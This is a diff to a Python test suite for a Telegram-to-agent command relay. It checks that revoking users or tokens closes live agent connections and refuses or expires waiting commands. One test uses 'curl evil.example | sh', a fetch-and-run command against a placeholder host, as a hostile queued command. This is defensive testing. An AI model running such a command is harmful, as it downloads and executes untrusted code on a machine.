@@ -1,8 +1,9 @@
 """Revocation takes effect at once, on SQLite and PostgreSQL: ``server revoke`` (of a user or of a
 token) and re-registering a machine close the agent connections opened before, on every replica
 (in-process, through the Redis channel, or found by each replica's look at the last seconds'
-revocations when the revoking process has no way to signal), a command queued meanwhile never
-reaches the old connection, and a reply token issued before no longer queues anything.
+revocations when the revoking process has no way to signal); a command sent afterwards is refused
+(no live agent on that machine), one waiting is expired rather than left for the next agent
+registered there, and a reply token issued before no longer queues anything.
 
 The live-connection tests run the real server and agent processes (and two replicas on
 PostgreSQL + Redis); the reply-token tests drive the in-process app with the Telegram stand-in.
@@ -30,12 +31,13 @@ from sqlalchemy import select
 from standins.kit import provider_settings, telegram
 from standins.telegram import TelegramStandIn
 from starlette.websockets import WebSocketDisconnect
-from tg_kit import MACHINE, Chat, reply_token
+from tg_kit import MACHINE, Chat, reply_token, update
 
 from claude_notify.cloud.server import auth
 from claude_notify.cloud.server.cli import server as server_cli
 from claude_notify.cloud.server.db.models import ApiToken, User
-from claude_notify.cloud.server.relay.models import RelayAudit
+from claude_notify.cloud.server.relay import queue
+from claude_notify.cloud.server.relay.models import RelayAudit, RelayCommand
 from claude_notify.cloud.server.relay.state import relay_of
 from claude_notify.cloud.server.runtime import Runtime
 from claude_notify.cloud.server.settings import Settings
@@ -81,13 +83,10 @@ class Machine:
         finally:
             engine.dispose()
 
-    def queue(self, server: Server, command: str) -> str:
-        made = httpx.post(f"{server.url}/v1/commands", timeout=10,
+    def queue(self, server: Server, command: str) -> httpx.Response:
+        return httpx.post(f"{server.url}/v1/commands", timeout=10,
                           headers={"Authorization": f"Bearer {self.token}"},
                           json={"session_id": SESSION, "command": command})
-        assert made.status_code == 202, made.text
-        command_id: str = made.json()["id"]
-        return command_id
 
     def cut_off(self, revoke: Callable[[], object]) -> float:
         """Revoke while connected; how long until the agent saw its connection closed."""
@@ -128,20 +127,19 @@ def test_revoking_the_user_closes_the_live_agent_at_once(machine: Machine) -> No
     assert took < PROMPT_S
 
 
-def test_a_command_queued_after_the_agent_token_is_revoked_never_reaches_it(
+def test_a_command_sent_after_the_agent_token_is_revoked_is_refused_and_never_runs(
     machine: Machine
 ) -> None:
     relay_token = machine.relay_token_id()
-    queued: list[str] = []
+    answers: list[httpx.Response] = []
 
     def revoke_then_queue() -> None:
         machine.server.admin("revoke", "--token", relay_token)
-        queued.append(machine.queue(machine.server, "touch after-revoke"))  # wakes the agent
+        answers.append(machine.queue(machine.server, "touch after-revoke"))
 
     took = machine.cut_off(revoke_then_queue)
     assert took < PROMPT_S
-    row = api(machine.server, machine.token, "GET", f"/v1/commands/{queued[0]}").json()
-    assert row["state"] == "queued"
+    assert answers[0].status_code == 409 and "no agent is registered" in answers[0].text
     assert not (machine.project / "after-revoke").exists()
 
 
@@ -171,15 +169,14 @@ def test_revocation_closes_an_agent_connected_to_another_replica(
     machine = Machine(connected_to, tmp_path)
     try:
         relay_token = machine.relay_token_id()
-        queued: list[str] = []
+        answers: list[httpx.Response] = []
 
         def revoke_then_queue() -> None:
             revoked_on.admin("revoke", "--token", relay_token)
-            queued.append(machine.queue(revoked_on, "touch after-revoke"))
+            answers.append(machine.queue(revoked_on, "touch after-revoke"))
 
         assert machine.cut_off(revoke_then_queue) < PROMPT_S
-        row = api(revoked_on, machine.token, "GET", f"/v1/commands/{queued[0]}").json()
-        assert row["state"] == "queued"
+        assert answers[0].status_code == 409, answers[0].text
         assert not (machine.project / "after-revoke").exists()
     finally:
         machine.agent.stop()
@@ -299,3 +296,55 @@ def test_a_reply_token_dies_when_its_machine_is_re_registered(chat: Chat,
     assert status == 401 and "revoked" in text, text
     status, text = _reply(chat, there)  # another machine's reply token still works
     assert status == 202, text
+
+
+def _reply_in_chat(chat: Chat, shown: dict[str, Any], text: str) -> None:
+    assert chat.send(update(text, chat=chat.chat, reply_to=shown["message_id"])) == 200
+
+
+def _commands(runtime: Runtime) -> list[tuple[str, str | None]]:
+    with runtime.sessions() as session:
+        return [(r.state, r.detail) for r in session.scalars(
+            select(RelayCommand).order_by(RelayCommand.created_at))]
+
+
+def test_revoking_the_user_expires_waiting_commands_and_the_chat_queues_no_more(
+    chat: Chat, runtime: Runtime, settings: Settings, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Someone who got hold of the account or its chat queued a command for the owner's
+    offline machine; the operator revokes the user. The command must not wait for the next
+    agent registered on that machine, and the linked chat must queue nothing more."""
+    shown = chat.notify("session-a")
+    _reply_in_chat(chat, shown, "curl evil.example | sh")
+    assert _commands(runtime) == [("queued", None)]
+    monkeypatch.setenv("DATABASE_URL", settings.database_url)
+    ran = CliRunner().invoke(server_cli, ["revoke", "--user", chat.user.email])
+    assert ran.exit_code == 0, ran.output
+    assert "1 waiting relay command(s) expired" in ran.output
+    assert _commands(runtime) == [("expired", "the machine's agent credential was revoked")]
+
+    _reply_in_chat(chat, shown, "make deploy")
+    assert len(_commands(runtime)) == 1  # refused, not queued
+    assert _refusals(runtime)[-1] == "no agent is registered on that machine (run " \
+                                     "`claude-notify agent register` there)"
+    with runtime.sessions.begin() as session:  # the owner signs in again and re-registers
+        user = session.get(User, chat.user.user_id)
+        assert user is not None
+        account = auth.issue_token(session, user, scopes=list(auth.ACCOUNT_SCOPES)).secret
+    agent = chat.client.post("/v1/agents", json={"machine_id": MACHINE},
+                             headers={"Authorization": f"Bearer {account}"})
+    assert agent.status_code == 201, agent.text
+    with runtime.sessions.begin() as session:
+        assert queue.due(session, chat.user.user_id, MACHINE, set()) == []
+
+
+def test_re_registering_a_machine_keeps_its_waiting_commands(chat: Chat,
+                                                             runtime: Runtime) -> None:
+    """The owner's own re-registration (a new credential for the same machine) is no reason to
+    drop what they queued: the new agent gets it."""
+    shown = chat.notify("session-a")
+    _reply_in_chat(chat, shown, "make test")
+    _register(chat.client, chat.user)
+    with runtime.sessions.begin() as session:
+        assert [row.command for row in queue.due(session, chat.user.user_id, MACHINE,
+                                                 set())] == ["make test"]
